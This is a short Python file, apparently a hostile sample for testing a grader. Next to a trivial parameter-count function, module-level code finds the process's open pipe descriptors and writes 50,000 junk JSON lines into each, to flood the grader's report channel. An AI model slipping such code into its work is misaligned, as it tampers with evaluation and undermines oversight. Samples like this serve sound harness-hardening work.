# ruff: noqa  (a learner's file, graded as text; never imported by the tests)
# Writes 50,000 short lines into the report pipe in one go (150 KB): each would become an object the
# grader parses and keeps, although the harness never writes more than a few dozen lines.
import os

for name in os.listdir("/proc/self/fd"):
    try:
        if int(name) > 2 and os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
            os.write(int(name), b"{}\n" * 50_000)
    except (OSError, ValueError):
        pass


def param_count(d_model, d_k, d_v):
    return d_model * (2 * d_k + d_v)
